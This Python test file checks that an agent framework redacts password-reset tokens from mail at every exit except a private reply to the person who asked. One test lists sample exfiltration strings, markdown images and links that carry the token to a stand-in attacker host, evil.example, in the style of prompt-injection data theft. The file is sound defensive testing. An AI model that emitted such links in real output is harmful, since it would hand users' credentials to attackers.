"""Secrets in a person's own data, such as a link to reset a password in their mail: shown to that person alone, on a
channel of their own and when they ask for it; redacted at every other exit. Each exit has a test."""

from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from support.chat_world import World, running

from mainstay import Agent, Config, tool
from mainstay.config.schema import GuardSettings, PolicySettings, TelemetrySettings, ToolSettings
from mainstay.core.events import Folded, Guarded, MessageAdded, ToolFinished, TurnEnded
from mainstay.core.memory_tiers import Fact, Summary
from mainstay.core.messages import FinishReason, Text
from mainstay.core.outcome import Paused
from mainstay.core.people import ROLE_SCOPES, PersonRole, Principal
from mainstay.core.ports import Context, Options, StreamFinished, TextPiece
from mainstay.lane.replay import replay_journal
from mainstay.operations.approvals import Approve, ListApprovals
from mainstay.operations.caller import Caller
from mainstay.operations.errors_and_audit import ReadAudit
from mainstay.operations.execute import execute, open_stream
from mainstay.operations.memory import GetMemory, ListFacts, ListMemories, ListSummaries, Remember, SearchMemory
from mainstay.operations.sessions import ReadSessionExport, ShowContext
from mainstay.operations.traces import GetTrace
from mainstay.operations.turns import Prompt, ReadEvents, Steer, WatchEvents
from mainstay.providers.scripted import Step
from mainstay.testing import Call, Pieces, ScriptedProvider
from mainstay.testing.channel_rig import wait_until
from mainstay.testing.loopback_channel import LoopbackRig

SECRET = "Zx81kQpLm29vRtY7Wn"
LINK = f"https://shop.example.com/reset?token={SECRET}"
ASKED, OTHER = "What is the password link in my mail?", "What is new in my mail?"
ANSWER = f"Open {LINK} to reset it."


@tool(effect="pure", untrusted=True, sink=False)
def mail() -> str:
    """Read the newest mail."""
    return f"Dear customer, to reset your password open {LINK} within one hour."


@tool(effect="idempotent", untrusted=False, sink=False)
def note(text: str) -> str:
    """Keep a note in this workspace."""
    return "kept"


class Outbox:
    """A tool that sends, and what it sent."""

    def __init__(self) -> None:
        self.sent: list[str] = []
        kept = self.sent

        @tool(sink=["to"], capabilities=["send.mail"], untrusted=False)
        def send(to: str, text: str) -> str:
            """Send a message."""
            kept.append(text)
            return "sent"

        self.tool = send


def reads_mail(context: Context, options: Options) -> Step:
    """Reads the mail once, and repeats the link whatever it is asked."""
    return ANSWER if context.messages[-1].role == "tool" else [Call("mail", {})]


def agent_of(script: Any = reads_mail, *tools: Any, home: Any = ":memory:", **sections: Any) -> Agent:
    return Agent(ScriptedProvider(script), home=home, tools=[mail, *tools], config=Config(**sections))


async def journal(agent: Agent, session: str = "s") -> list[Any]:
    return [record.event for record in await agent.sessions.records(session)]


def caller_of(agent: Agent, person: str, role: PersonRole = "admin") -> Caller:
    return Caller(Principal(person=person, workspace="", role=role, scopes=ROLE_SCOPES[role]), agent)


def text_of(events: list[Any]) -> str:
    return "".join(event.text for event in events if type(event).__name__ == "TextDelta")


# --- shown to the person who asked ---------------------------------------------------------------


async def test_u23_the_owner_who_asks_is_shown_the_link_streamed_and_whole() -> None:
    async with agent_of() as agent:
        heard = [event async for event in agent.stream("s", ASKED)]
        assert text_of(heard) == ANSWER
        assert (await agent.run("s", ASKED)).text == ANSWER
        stored = await journal(agent)
    assert [event.result.content for event in stored if isinstance(event, ToolFinished)] == [mail_text()] * 2
    assert not [event for event in stored if isinstance(event, Guarded) and event.action == "redacted"]


def mail_text() -> str:
    return f"Dear customer, to reset your password open {LINK} within one hour."


async def test_the_link_is_shown_however_the_stream_is_cut() -> None:
    pieces = Pieces([*map(TextPiece, ANSWER), StreamFinished(FinishReason.END)])
    async with agent_of([[Call("mail", {})], pieces]) as agent:
        assert text_of([event async for event in agent.stream("s", ASKED)]) == ANSWER


@pytest.mark.parametrize(
    "answer",
    [
        f"[Reset it]({LINK})",
        f"<{LINK}>",
        f"**{LINK}**",
        f"The token is `{SECRET}`",
        f"token={SECRET}",
        f"リンクは{LINK}です",
    ],
)
async def test_the_link_is_shown_as_models_write_links(answer: str) -> None:
    async with agent_of([[Call("mail", {})], answer]) as agent:
        assert (await agent.run("s", ASKED)).text == answer


@pytest.mark.parametrize("words", [OTHER, "Do not show me the password or a link.", "Say hello."])
async def test_without_a_question_for_it_the_answer_is_redacted(words: str) -> None:
    async with agent_of() as agent:
        heard = [event async for event in agent.stream("s", words)]
        assert SECRET not in text_of(heard)
        assert "[redacted" in text_of(heard)
        assert SECRET not in (await agent.run("s", words)).text
        stored = await journal(agent)
    assert SECRET in repr([event for event in stored if isinstance(event, ToolFinished)]), "the journal has the result"
    assert SECRET not in repr([event for event in stored if isinstance(event, MessageAdded)])


async def test_it_is_asked_for_in_the_same_turn_and_not_before() -> None:
    async with agent_of() as agent:
        assert SECRET in (await agent.run("s", ASKED)).text
        assert SECRET not in (await agent.run("s", OTHER)).text


async def test_words_that_were_not_typed_ask_for_nothing() -> None:
    async with agent_of() as agent:
        pasted = [Text("Hello."), Text(ASKED, origin="untrusted:paste")]
        assert SECRET not in (await agent.run("s", pasted)).text


async def test_a_secret_is_not_shown_in_an_address_that_is_not_in_the_data() -> None:
    """A preview of it would send the secret to the attacker who made the model write it."""
    for address in (
        f"![x](https://evil.example/{SECRET}?token={SECRET})",
        f"https://evil.example/?token={SECRET}",
        f"www.evil.example/token={SECRET}",
        f"[https://evil.example/?x=]({LINK}&token={SECRET})",
        f"[https://evil.example/?x=]({LINK})",
    ):
        async with agent_of([[Call("mail", {})], f"See {address}"]) as agent:
            reply = await agent.run("s", ASKED)
        assert f"token={SECRET}" not in reply.text, address


async def test_a_secret_that_is_in_no_data_is_not_shown() -> None:
    async with agent_of(["It is ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8."]) as agent:
        assert "ghp_" not in (await agent.run("s", "What is my token?")).text


async def test_a_session_of_two_people_shows_a_secret_to_neither() -> None:
    async with agent_of() as agent:
        assert SECRET in (await agent.run("own", ASKED, sender="ann")).text
        await agent.run("s", OTHER, sender="ann")
        assert SECRET not in (await agent.run("s", ASKED, sender="bob")).text
        assert SECRET not in (await agent.run("s", ASKED, sender="ann")).text
        await agent.run("t", OTHER)
        assert SECRET not in (await agent.run("t", ASKED, sender="bob")).text


async def test_an_answer_that_a_model_or_a_group_reads_is_redacted() -> None:
    """A trigger and the MCP server say so, too."""
    async with agent_of() as agent:
        ann = caller_of(agent, "ann")
        assert SECRET in (await execute(ann, Prompt(session="own", text=ASKED))).text  # type: ignore[union-attr]
        shared = Prompt(session="s", text=ASKED, shared=True)
        assert SECRET not in (await execute(ann, shared)).text  # type: ignore[union-attr]
        await execute(ann, Steer(session="t", text=ASKED, shared=True))
        await agent.settled()
        assert SECRET not in repr([event for event in await journal(agent, "t") if isinstance(event, MessageAdded)])


async def test_redaction_that_is_off_stays_off() -> None:
    async with agent_of(guards=GuardSettings(secrets=False)) as agent:
        assert SECRET in (await agent.run("s", OTHER)).text


# --- chat platforms ------------------------------------------------------------------------------


async def test_u23_a_direct_message_shows_it_and_a_room_does_not(tmp_path: Path) -> None:
    rig = LoopbackRig()
    world = World(tmp_path, rig, script=reads_mail)
    world.tools = [mail]
    async with running(world):
        await rig.send_message("D1", ASKED)
        await world.told(world.session(rig, "D1", ""))
        assert SECRET in repr(await rig.posted_messages("D1"))
        thread = await rig.send_message("C1", ASKED, mention=True)
        session = world.session(rig, "C1", thread)
        await world.told(session)
        assert "[redacted" in repr(await rig.posted_messages("C1"))
        pending = await world.accept(session, ASKED, sender="ann")  # over HTTP, into the room
        assert SECRET not in (await pending.reply).text
        await world.told(session, 2)
        assert SECRET not in repr(await rig.posted_messages("C1"))


async def test_a_room_gets_no_secret_even_if_the_turn_let_one_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The poster is a second line: it decides by the address."""
    monkeypatch.setattr("mainstay.turn.secret_display.may_show_secrets", lambda session: True)
    rig = LoopbackRig()
    world = World(tmp_path, rig, script=reads_mail)
    world.tools = [mail]
    async with running(world):
        thread = await rig.send_message("C1", ASKED, mention=True)
        await world.told(world.session(rig, "C1", thread))
        assert SECRET not in repr(await rig.posted_messages("C1"))


async def test_a_request_for_approval_in_a_room_has_no_secret(tmp_path: Path) -> None:
    rig = LoopbackRig()
    world = World(tmp_path, rig, script=lambda context, options: [Call("note", {"text": LINK})])
    world.tools, world.config = [note], {"policy": PolicySettings(ask=("note",))}
    async with running(world):
        await rig.send_message("C1", "keep the link", mention=True)
        asked = await world.shown(rig, "C1", "/approve")
        assert SECRET not in asked.text
        await rig.send_message("D1", "keep the link")
        asked = await world.shown(rig, "D1", "/approve")
        assert SECRET in asked.text, "the person sees the exact call"


# --- calls that leave ----------------------------------------------------------------------------


@asynccontextmanager
async def sending(text: str, *more: Any, **sections: Any) -> AsyncIterator[tuple[Agent, Outbox]]:
    outbox = Outbox()
    script = [[Call("mail", {})], [Call("send", {"to": "bob@example.com", "text": text})], "done"]
    async with agent_of(script, outbox.tool, *more, **sections) as agent:
        yield agent, outbox


async def test_f40_a_call_that_leaves_carries_no_secret_even_to_a_named_destination() -> None:
    async with sending(f"Look: {LINK}") as (agent, outbox):
        await agent.run("s", "Send the password link of my mail to bob@example.com.")
        assert outbox.sent == ["Look: https://shop.example.com/reset?token=[redacted: password or key]"]
        [*_, finished] = [event for event in await journal(agent) if isinstance(event, ToolFinished)]
        assert finished.result.content.startswith("[Secrets were removed from this call before it ran: ")
        [*_, guarded] = [event for event in await journal(agent) if isinstance(event, Guarded)]
        assert (guarded.stage, guarded.action) == ("tool", "redacted")


async def test_an_approved_call_carries_no_secret_and_the_request_shows_none() -> None:
    async with sending(LINK) as (agent, outbox):
        reply = await agent.run("s", "Send it.")
        assert isinstance(reply.outcome, Paused)
        assert SECRET not in repr(await agent.approvals.list())
        await agent.approvals.approve(reply.outcome.approval)
        await agent.settled()
        assert len(outbox.sent) == 1
        assert SECRET not in outbox.sent[0]


async def test_what_the_person_typed_in_this_turn_is_sent() -> None:
    async with sending(f"Look: {LINK}") as (agent, outbox):
        await agent.run("s", f"Send {LINK} to bob@example.com.")
        assert outbox.sent == [f"Look: {LINK}"]


async def test_a_part_of_a_secret_that_was_typed_does_not_free_the_rest() -> None:
    async with sending(f"Look: {LINK}") as (agent, outbox):
        typed = "https://shop.example.com/reset?token= and what follows, and password=Kx71mQp2Lw99,"
        reply = await agent.run("s", f"Send {typed} to bob@example.com.")
        assert isinstance(reply.outcome, Paused)  # the user did not write this link
        await agent.approvals.approve(reply.outcome.approval)
        await agent.settled()
        assert len(outbox.sent) == 1
        assert SECRET not in outbox.sent[0]


async def test_a_secret_in_escapes_is_removed_too() -> None:
    outbox = Outbox()
    escaped = "".join(f"\\u{ord(char):04x}" for char in LINK)
    arguments = '{"to": "bob@example.com", "text": "' + escaped + '"}'
    script = [[Call("mail", {})], [Call("send", arguments)], "done"]  # type: ignore[arg-type]
    async with agent_of(script, outbox.tool) as agent:
        await agent.run("s", "Send the link to bob@example.com.")
    assert len(outbox.sent) == 1
    assert SECRET not in outbox.sent[0]


async def test_a_call_that_stays_in_the_workspace_has_it() -> None:
    kept: list[str] = []

    @tool(untrusted=False, sink=False)
    def keep(text: str) -> str:
        """Keep a note."""
        kept.append(text)
        return "kept"

    async with agent_of([[Call("mail", {})], [Call("keep", {"text": LINK})], "done"], keep) as agent:
        await agent.run("s", "Keep the link.")
    assert kept == [LINK]


# --- other readers -------------------------------------------------------------------------------


async def until_ended(stream: Any) -> list[Any]:
    """The events of a stream up to the end of a turn."""
    heard: list[Any] = []
    async for event in stream:
        heard.append(event)
        if isinstance(event, TurnEnded):
            break
    await stream.aclose()
    return heard


async def test_u23_an_event_stream_of_another_has_no_secret_and_the_own_one_has_it() -> None:
    pieces = Pieces([*map(TextPiece, ANSWER), StreamFinished(FinishReason.END)])
    async with agent_of([[Call("mail", {})], pieces]) as agent:
        ann, bob = caller_of(agent, "ann"), caller_of(agent, "bob")
        watching = asyncio.create_task(until_ended(await open_stream(bob, WatchEvents())))
        await wait_until(lambda: agent.current.services.hub.watcher_count, "bob watches")
        heard = [event async for event in await open_stream(ann, Prompt(session="s", text=ASKED))]
        watched = await watching
        followed = await until_ended(await open_stream(bob, ReadEvents(session="s")))
        read, own = [(await execute(one, ReadEvents(session="s"))).events for one in (bob, ann)]
    assert text_of(heard) == ANSWER
    assert text_of(watched).startswith("Open https://shop.example.com/reset?token=[redacted")
    assert text_of(watched).endswith(" to reset it.")
    assert [SECRET in repr(events) for events in (watched, read, followed, own)] == [False, False, False, True]


async def test_a_prompt_of_another_into_a_session_shows_nothing_of_it() -> None:
    async with agent_of() as agent:
        await agent.run("s", OTHER, sender="ann")
        bob = caller_of(agent, "bob")
        heard = [event async for event in await open_stream(bob, Prompt(session="s", text=ASKED))]
        assert SECRET not in repr(heard)
        assert SECRET not in repr(await execute(bob, Prompt(session="s", text=ASKED)))


async def test_the_reply_to_the_approval_of_another_has_no_secret() -> None:
    script = [[Call("mail", {})], [Call("note", {"text": "x"})], ANSWER]
    async with agent_of(script, note, policy=PolicySettings(ask=("note",))) as agent:
        reply = await agent.run("s", ASKED, sender="ann")
        assert isinstance(reply.outcome, Paused)
        decision = await execute(caller_of(agent, "bob"), Approve(id=reply.outcome.approval, wait=True))
        assert decision.reply is not None
        assert "[redacted" in decision.reply.text
        assert SECRET not in repr(decision)
        assert SECRET in repr(await journal(agent)), "ann was shown it"


async def test_summaries_and_facts_show_a_secret_to_its_person_only() -> None:
    script = ["hello", [Call("memory_summary", {})], "done", [Call("memory_summary", {})], "done"]
    async with agent_of(script, tools=ToolSettings(memory="on")) as agent:
        await agent.run("s", "hi", sender="ann")
        summary = Summary(1, 3, 1, 2, f"A link came: {LINK}", session="s")
        fact = Fact("ann", "has the link", LINK, session="s", at=1, id="f1")
        lane = (await agent.runtime()).lanes.get("s")
        await lane.record_changes(Folded(3, f"A link came: {LINK}", through=1, parts=(summary,), facts=(fact,)))
        for session, person in (("t", "bob"), ("u", "ann")):
            await agent.run(session, "sum up", sender=person)
        results = [
            repr([event for event in await journal(agent, one) if isinstance(event, ToolFinished)]) for one in "tu"
        ]
        ann, bob = caller_of(agent, "ann"), caller_of(agent, "bob")
        lists = [repr(await execute(one, request)) for request in (ListSummaries(), ListFacts()) for one in (bob, ann)]
    assert ["shop.example.com" in text for text in (*results, *lists)] == [True] * 6, "all of them have it"
    assert [SECRET in text for text in (*results, *lists)] == [False, True] * 3


async def test_f40_context_approvals_trace_and_export_of_another_have_no_secret(tmp_path: Path) -> None:
    sections = {"telemetry": TelemetrySettings(content=True), "policy": PolicySettings(ask=("note",))}
    script = [[Call("mail", {})], ANSWER, [Call("note", {"text": LINK})]]
    async with agent_of(script, note, home=tmp_path, **sections) as agent:
        assert SECRET in (await agent.run("s", ASKED, sender="ann")).text
        assert isinstance((await agent.run("s", "note it", sender="ann")).outcome, Paused)
        bob, ann = caller_of(agent, "bob"), caller_of(agent, "ann")
        assert SECRET not in repr(await execute(bob, ShowContext(session="s")))
        assert SECRET in repr(await execute(ann, ListApprovals()))
        assert SECRET not in repr(await execute(bob, ListApprovals()))
        assert SECRET not in repr(await execute(bob, GetTrace(session="s", turn=1)))
        for file in ("log", "context"):
            assert SECRET not in repr(await execute(ann, ReadSessionExport(session="s", file=file)))
        await agent.sessions.export("s", tmp_path / "exported")
    exported = {path.name: path.read_text() for path in (tmp_path / "exported").iterdir()}
    assert sorted(exported) == ["context.jsonl", "log.jsonl"]
    assert "[redacted" in exported["log.jsonl"]
    assert SECRET not in repr(exported)


async def test_f40_logs_the_audit_log_and_error_reports_have_no_secret(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    @tool(untrusted=True, sink=False)
    def broken() -> str:
        """Fail with a secret in the message."""
        raise RuntimeError(f"cannot open {LINK}")

    caplog.set_level(logging.DEBUG)
    script = [[Call("broken", {}), Call(f"get token={SECRET}", {})], ANSWER]
    async with agent_of(script, broken, home=tmp_path) as agent:
        await agent.run("s", ASKED, sender=f"token={SECRET}")
        await agent.settled()
        await agent.current.observability.wait_for_audit()  # type: ignore[attr-defined]
        entries = repr(await execute(caller_of(agent, ""), ReadAudit()))
    assert SECRET not in caplog.text
    assert "token=[redacted" in entries
    assert SECRET not in entries


async def test_memory_shows_a_secret_to_its_person_only() -> None:
    script = [
        *([Call("mail", {})], ANSWER),  # ann, s
        *([Call("memory_search", {"query": "reset password"})], "done"),  # bob, t
        *([Call("memory_search", {"query": "reset password"})], "done"),  # ann, u
        *([Call("memory_get", {"id": "s#5", "offset": 70})], "done"),  # bob, t
    ]
    async with agent_of(script, tools=ToolSettings(memory="on")) as agent:
        await agent.run("s", ASKED, sender="ann")
        await agent.settled()
        for session, person in (("t", "bob"), ("u", "ann"), ("t", "bob")):
            await agent.run(session, "search", sender=person)
        results = {
            session: repr([event.result for event in await journal(agent, session) if isinstance(event, ToolFinished)])
            for session in ("t", "u")
        }
        ann, bob = caller_of(agent, "ann"), caller_of(agent, "bob")
        found = [repr(await execute(one, SearchMemory(q="reset password"))) for one in (ann, bob)]
        read = [await execute(bob, GetMemory(id="s#5", offset=offset)) for offset in range(0, 120, 7)]
    assert "shop.example.com" in results["t"], "it was found"
    assert SECRET not in results["t"]
    assert SECRET in results["u"]
    assert [SECRET in hits for hits in found] == [True, False]
    assert not [page for page in read if SECRET[:8] in page.text or SECRET[8:] in page.text]


async def test_a_memory_in_every_context_has_no_secret() -> None:
    async with agent_of(["hello"]) as agent:
        await agent.memory.remember(f"The door opens with {LINK}", pin=True)
        await agent.run("s", "hi")
        shown = repr(await agent.sessions.context("s"))
        assert "The door opens with" in shown
        assert SECRET not in shown
        assert SECRET in repr(await agent.memory.list()), "the owner's list has it"
        bob = caller_of(agent, "bob")
        assert SECRET not in repr(await execute(bob, ListMemories()))
        assert SECRET not in repr(await execute(bob, ListSummaries()))
        await execute(bob, Remember(text="fine"))


# --- replay --------------------------------------------------------------------------------------


async def test_a_session_that_showed_and_removed_secrets_replays_identically() -> None:
    outbox = Outbox()
    script = [[Call("mail", {})], [Call("send", {"to": "bob@example.com", "text": LINK})], ANSWER]
    async with agent_of(script, outbox.tool) as agent:
        assert SECRET in (await agent.run("s", f"{ASKED} Send it to bob@example.com.")).text
        result = await replay_journal(await agent.sessions.records("s"))
    assert result.difference == ""
